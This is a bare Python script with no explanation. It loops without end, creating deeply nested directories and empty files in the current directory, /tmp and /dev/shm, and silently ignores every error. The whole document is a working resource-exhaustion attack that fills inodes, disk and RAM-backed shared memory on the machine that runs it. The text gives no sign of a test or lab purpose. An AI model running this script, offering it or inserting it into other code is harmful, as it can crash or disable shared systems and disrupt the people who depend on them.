import os

n = 0
while True:
    for folder in (".", "/tmp", "/dev/shm"):
        try: os.makedirs(f"{folder}/d{n}/" + "x/" * 50)
        except OSError: pass
        try: open(f"{folder}/f{n}", "x").close()
        except OSError: pass
    n += 1
